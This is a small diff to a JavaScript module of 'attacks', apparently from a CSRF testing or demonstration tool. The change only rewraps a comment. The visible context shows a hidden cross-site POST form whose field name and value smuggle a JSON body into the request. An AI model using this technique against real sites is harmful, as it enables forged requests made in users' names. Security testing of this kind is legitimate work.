@@ -59,7 +59,8 @@ export const attacks = {
       const form = document.createElement('form');
       Object.assign(form, { method: 'POST', action: url, target: 'answer', enctype });
       const field = document.createElement('input');
-      // A form puts an equals sign between name and value. Here the sign ends up inside a JSON string.
+      // A form puts an equals sign between name and value. Here the sign ends up inside a JSON
+      // string.
       Object.assign(field, { name: `${body.slice(0, -1)},"more":"`, value: '"}' });
       form.append(field);
       document.body.append(frame, form);
